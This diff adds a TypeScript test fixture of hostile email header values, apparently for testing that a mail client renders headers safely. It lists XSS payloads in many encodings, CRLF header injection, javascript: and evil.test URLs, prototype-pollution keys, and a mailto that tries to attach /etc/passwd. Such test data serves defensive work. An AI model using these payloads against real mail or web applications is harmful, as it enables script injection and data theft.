@@ -1,0 +1,86 @@
+import { base64, run, script, word } from './wire-pieces.ts'
+
+/** What a header field can hold: what it tries, and the field. */
+export const wireFields: [string, string][] = [
+  ['a bare subject', `Subject: ${run}`],
+  ['a subject that is encoded', `Subject: ${word(script)}`],
+  ['a subject in quoted words', `Subject: =?utf-8?Q?=3Cimg_src=3Dx:_onerror=3Dalert(1)=3E?=`],
+  ['a subject split in its tag', `Subject: ${word('<img src=x: ')} ${word('onerror=alert(1)>')}`],
+  ['a subject in UTF-7', 'Subject: =?utf-7?Q?+ADw-script+AD4-alert(1)+ADw-/script+AD4-?='],
+  [
+    'a subject of overlong bytes',
+    `Subject: =?utf-8?Q?=C0=BCscript=C0=BEalert(1)=C0=BC/script=C0=BE?=`,
+  ],
+  ['a subject in UTF-16', `Subject: =?utf-16le?B?${base64(Buffer.from(run, 'utf16le'))}?=`],
+  ['a subject that is encoded twice', `Subject: ${word(word(run))}`],
+  ['a subject of entities', 'Subject: &lt;img src=x: onerror=alert(1)&gt;'],
+  ['a subject that ends the title', `Subject: </title></head><body>${run}`],
+  ['a subject that leaves an attribute', `Subject: "' autofocus onfocus=alert(1) x="`],
+  ['a subject that turns round', `Subject: ${word(`\u202e${run}\u2066`)}`],
+  ['a subject with lines of its own', `Subject: ${word(`a\r\nX-Evil: b\r\n\r\n${run}`)}`],
+  ['a subject with a NUL', `Subject: ${word('<scr\0ipt>alert(1)</script>')}`],
+  [
+    'a subject of a template',
+    'Subject: {{constructor.constructor("alert(1)")()}} ${alert(1)} <%= alert(1) %>',
+  ],
+  ['a quoted name', `From: "${run.replaceAll('"', '')}" <a@evil.test>`],
+  ['an encoded name', `From: ${word(script)} <a@evil.test>`],
+  ['a name without an address', `From: ${word(run)}`],
+  ['a name in a comment', `From: a@evil.test (${run.replace('(1)', '`1`')})`],
+  ['a local part', `From: "${run}"@evil.test`],
+  ['a domain', `From: a@evil.test"onmouseover="alert(1)`],
+  ['a domain literal', `From: a@[${run}]`],
+  ['an address of javascript', 'From: Help <javascript:alert(1)>'],
+  [
+    'an address that adds to a mailto',
+    'From: Help <a@evil.test?bcc=b@evil.test&body=x&attach=/etc/passwd>',
+  ],
+  ['an address with a slash', 'From: Help <//evil.test/x@evil.test>'],
+  ['a group', `To: ${script}: a@evil.test, b@evil.test;`],
+  ['a recipient', `To: ${word(run)} <"${script}"@evil.test>`],
+  [
+    'many recipients',
+    `To: ${Array.from({ length: 9 }, (_, at) => `${word(run)} <${at}@evil.test>`).join(',\r\n ')}`,
+  ],
+  ['a copy', `Cc: ${word(run)} <a@evil.test>`],
+  ['a blind copy', `Bcc: ${word(run)} <a@evil.test>`],
+  ['an address to answer', `Reply-To: ${word(run)} <javascript:alert(1)>`],
+  ['a sender', `Sender: ${word(run)} <a@evil.test>`],
+  ['an address to leave by', 'List-Unsubscribe: <javascript:alert(1)>, <http://evil.test/leave>'],
+  [
+    'an address to leave by with one click',
+    'List-Unsubscribe: <http://evil.test/leave>\r\nList-Unsubscribe-Post: List-Unsubscribe=One-Click',
+  ],
+  [
+    'the other addresses of a list',
+    'List-Help: <http://evil.test/1>\r\nList-Archive: <javascript:alert(1)>\r\nList-Post: <http://evil.test/2>',
+  ],
+  [
+    'a picture of the sender',
+    'BIMI-Location: v=BIMI1; l=http://evil.test/logo.svg\r\nX-Face-URL: http://evil.test/1\r\nFace: x',
+  ],
+  [
+    'a receipt that is asked for',
+    'Disposition-Notification-To: <a@evil.test>\r\nReturn-Receipt-To: a@evil.test\r\nX-Confirm-Reading-To: a@evil.test',
+  ],
+  [
+    'fields that browsers obey',
+    'Refresh: 0; url=http://evil.test/1\r\nLink: <http://evil.test/1>; rel=preload; as=script\r\nLocation: http://evil.test/1\r\nSet-Cookie: a=b\r\nContent-Location: http://evil.test/\r\nContent-Base: http://evil.test/',
+  ],
+  [
+    'fields about policies',
+    'Content-Security-Policy: script-src * \'unsafe-inline\'\r\nAccess-Control-Allow-Origin: *\r\nReport-To: {"endpoints":[{"url":"http://evil.test/1"}]}\r\nNEL: {}',
+  ],
+  ['the name of a field', `X-<img/src=x:/onerror=alert(1)>: a`],
+  ['the value of a field', `X-Value: ${run}`],
+  ['a folded value', 'X-Value: <img\r\n src=x:\r\n onerror=alert(1)>'],
+  [
+    'names that objects have',
+    '__proto__: {"a":1}\r\nconstructor: x\r\ntoString: x\r\nhasOwnProperty: x',
+  ],
+  ['a message id', `Message-ID: <${run}@evil.test>`],
+  ['a date', `Date: ${run}`],
+  ['a date in the far future', 'Date: Sat, 21 Nov 99999 09:41:00 +9999'],
+  ['a trace', `Received: from ${run} by <script>alert(1)</script>`],
+  ['keywords', `Keywords: ${run}\r\nComments: ${script}\r\nOrganization: ${run}`],
+]
